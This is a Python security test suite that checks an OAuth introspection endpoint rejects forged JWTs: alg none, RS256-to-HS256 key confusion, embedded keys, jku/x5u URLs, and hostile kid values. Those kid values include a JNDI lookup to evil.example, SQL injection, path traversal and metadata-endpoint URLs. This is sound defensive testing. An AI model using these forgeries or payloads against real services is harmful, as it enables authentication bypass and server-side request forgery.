"""Forged tokens at /introspect, by algorithm and key: ATK-1 to ATK-7.

Where the header or the claims are the attack, the pod's own active key has signed it.
"""

import base64
import hashlib
import hmac
import json
import socket
import time
from dataclasses import replace
from pathlib import Path

import jwt
import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from service.app import App, create_app
from service.keys.key_store import KeyStore
from service.keys.keyring import Keyring
from service.keys.master_keys import read_master_keys
from service.keys.signer import PrivateKey
from service.oauth.signing_key import FEED, TOKEN, SigningKey
from service.settings import Settings
from service.sql.signing_keys import list_signing_keys
from tests.conftest import RegisteredClient, http_to
from tests.http.canary import canary
from tests.http.conftest import Active
from tests.http.forge import Forge, is_active


def test_canary_notices(settings: Settings) -> None:
    """The tests here could fail: what they forbid is seen."""
    with canary(settings) as seen:
        with socket.socket() as peer:
            peer.connect_ex(("127.0.0.1", 1))
        Path("/dev/null").read_bytes()
        socket.getaddrinfo("localhost", 80)
    assert seen == ["connect ('127.0.0.1', 1)", "open /dev/null", "look up localhost"]


async def test_unforged_token_is_active(active: Active, forge: Forge) -> None:
    """The tests here could fail: nothing but the attack makes these tokens bad."""
    assert await active(forge.token())


@pytest.mark.parametrize("alg", ['"none"', '"None"', '"noNE"', '"NONE"', '""', None, "null"])
@pytest.mark.parametrize("tail", ["", ".", ".e30", "signed"])
async def test_atk_1_unsigned(active: Active, forge: Forge, alg: str | None, tail: str) -> None:
    """ATK-1: with and without the trailing dot, a made-up signature, and our own."""
    token = forge.token(header=forge.header(alg=alg))
    assert not await active(token if tail == "signed" else token.rpartition(".")[0] + tail)


@pytest.mark.parametrize("secret", ["PEM", "PEM and newline", "DER", "JWK", "modulus", "empty"])
@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
async def test_atk_2_public_key_as_hmac_secret(
    active: Active, forge: Forge, secret: str, alg: str
) -> None:
    """ATK-2: RS256 to HS256 (CVE-2015-9235)."""
    jwk = forge.signer.public_jwk
    public = jwt.PyJWK(jwk).key
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    key = {
        "PEM": pem.strip(),
        "PEM and newline": pem,
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "JWK": json.dumps(jwk).encode(),
        "modulus": public.public_numbers().n.to_bytes(256),
        "empty": b"",
    }[secret]
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    header = forge.header(alg=f'"{alg}"')
    token = forge.token(header=header, sign=lambda m: hmac.new(key, m, digest).digest())
    assert not await active(token)


@pytest.mark.parametrize("alg", ["PS256", "RS384", "RS512", "rs256", "RS256 ", "EdDSA"])
async def test_atk_3_other_algorithm_of_our_key(active: Active, forge: Forge, alg: str) -> None:
    """ATK-3: one algorithm a key, in exact case (RFC 8725 §3.1), though the key made it."""
    key, sha256 = forge.signer._key, hashes.SHA256()
    pss = padding.PSS(padding.MGF1(sha256), 32)
    signers = {
        "PS256": lambda m: key.sign(m, pss, sha256),
        "RS384": lambda m: key.sign(m, padding.PKCS1v15(), hashes.SHA384()),
        "RS512": lambda m: key.sign(m, padding.PKCS1v15(), hashes.SHA512()),
    }
    header = forge.header(alg=json.dumps(alg))
    assert not await active(forge.token(header=header, sign=signers.get(alg)))


@pytest.mark.parametrize("alg", ["ES256", "ES384", "ES512"])
async def test_atk_3_elliptic_signature_under_our_kid(
    active: Active, forge: Forge, alg: str
) -> None:
    """ATK-3: ES384 with a P-256 key and its like."""
    key = ec.generate_private_key(ec.SECP256R1())
    token = forge.token(
        header=forge.header(alg=json.dumps(alg)),
        sign=lambda m: key.sign(m, ec.ECDSA(hashes.SHA256())),
    )
    assert not await active(token)


@pytest.mark.parametrize("alg", ["RSA1_5", "RSA-OAEP", "dir", "PBES2-HS256+A128KW"])
@pytest.mark.parametrize("segments", [3, 5])
async def test_atk_3_encrypted_token(active: Active, forge: Forge, alg: str, segments: int) -> None:
    """ATK-3: a JWE is nothing that this server reads, and `p2c` costs it nothing."""
    header = forge.header(alg=json.dumps(alg), enc='"A128GCM"', p2c=str(2**31), p2s='"AAAAAAAAAAA"')
    token = forge.token(header=header)
    assert not await active(token + ".AAAA" * (segments - 3))


@pytest.mark.parametrize("kid", ["the attacker's", "ours", "none"])
async def test_atk_4_embedded_key(
    active: Active, forge: Forge, attacker: PrivateKey, kid: str
) -> None:
    """ATK-4: a `jwk` in the header is never trusted, though it made the signature."""
    named = {"the attacker's": attacker.kid, "ours": forge.signer.kid, "none": None}[kid]
    header = forge.header(
        jwk=json.dumps(attacker.public_jwk), kid=None if named is None else json.dumps(named)
    )
    assert not await active(forge.token(header=header, sign=attacker.sign))


@pytest.mark.parametrize("member", ["jku", "x5u"])
@pytest.mark.parametrize(
    "url",
    ["http://169.254.169.254/", "file:///etc/passwd", "https://evil.example/jwks", "canary"],
)
async def test_atk_5_keys_elsewhere(
    active: Active, forge: Forge, attacker: PrivateKey, member: str, url: str
) -> None:
    """ATK-5: `jku` and `x5u` are never followed (RFC 8725 §3.10)."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        if url == "canary":
            url = f"http://127.0.0.1:{server.getsockname()[1]}/jwks"
        header = forge.header(kid=json.dumps(attacker.kid), **{member: json.dumps(url)})
        assert not await active(forge.token(header=header, sign=attacker.sign))
        with pytest.raises(BlockingIOError):
            server.accept()


async def test_atk_5_embedded_certificate(
    active: Active, forge: Forge, attacker: PrivateKey
) -> None:
    """ATK-5: an `x5c` is no key either."""
    key = attacker._key.public_key()
    der = key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    header = forge.header(x5c=json.dumps([base64.b64encode(der).decode()]))
    assert not await active(forge.token(header=header, sign=attacker.sign))


@pytest.mark.parametrize(
    "kid",
    [
        "../../dev/null",
        "/etc/passwd",
        "' OR 1=1--",
        "a\0b",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "\ud800",
        "k" * 129,
        "k" * 1400,
        "",
        1,
        True,
        ["k"],
        {"k": 1},
        None,
    ],
    ids=lambda kid: f"{kid!a:.20}",
)
async def test_atk_6_hostile_kid(active: Active, forge: Forge, kid: object) -> None:
    """ATK-6: a kid is looked up among ours, by its exact text, and nowhere else."""
    assert not await active(forge.token(header=forge.header(kid=json.dumps(kid))))


@pytest.mark.parametrize("change", [str.lower, str.upper, lambda k: k + " ", lambda k: k[:-1]])
async def test_atk_6_nearly_our_kid(active: Active, forge: Forge, change) -> None:
    """ATK-6: the look-up is exact; a token without a kid names no key."""
    kid = json.dumps(change(forge.signer.kid))
    assert not await active(forge.token(header=forge.header(kid=kid)))
    assert not await active(forge.token(header=forge.header(kid=None)))


async def test_atk_7_key_of_another_issuer_or_purpose(
    active: Active, forge: Forge, app: App, attacker: PrivateKey
) -> None:
    """ATK-7: unknown, another's, and our own key that signs the feed."""
    feed = app.services.keyring.key_set(FEED).signer
    for signer in (attacker, feed):
        for kid in (signer.kid, forge.signer.kid):
            header = forge.header(kid=json.dumps(kid))
            assert not await active(forge.token(header=header, sign=signer.sign))


async def test_atk_7_removed_and_unknown_key(
    app: App, caller: RegisteredClient, forge: Forge
) -> None:
    """ATK-7, JWKS-6: what a removed key signed is void, what its successor signs is good; before
    it was known, that was void too.
    """
    async with app.services.database.connection() as connection:
        keys = await list_signing_keys(connection)
    of_tokens = {key.state: key for key in keys if key.purpose == TOKEN}
    others = [key for key in keys if key.purpose != TOKEN]
    old, new = of_tokens["active"], of_tokens["pending"]
    before = _pod_with(app, [*others, old])
    after = _pod_with(app, [*others, replace(old, state="removed"), replace(new, state="active")])
    successor = after.services.keyring.key_set(TOKEN).signer
    header = forge.header(kid=json.dumps(successor.kid))
    by_old, by_new = forge.token(), forge.token(header=header, sign=successor.sign)
    for pod, good, void in ((before, by_old, by_new), (after, by_new, by_old)):
        async with http_to(pod) as http:
            assert await is_active(http, caller, good)
            assert not await is_active(http, caller, void)


def _pod_with(app: App, keys: list[SigningKey]) -> App:
    """The shared pod with a keyring of its own."""
    keyring = Keyring(
        KeyStore(
            issuer=app.services.issuer, master_keys=read_master_keys(app.services.settings.keys_dir)
        )
    )
    keyring.load(keys, monotonic=time.monotonic())
    services = replace(app.services, keyring=keyring)
    return App(asgi=create_app(services), services=services)
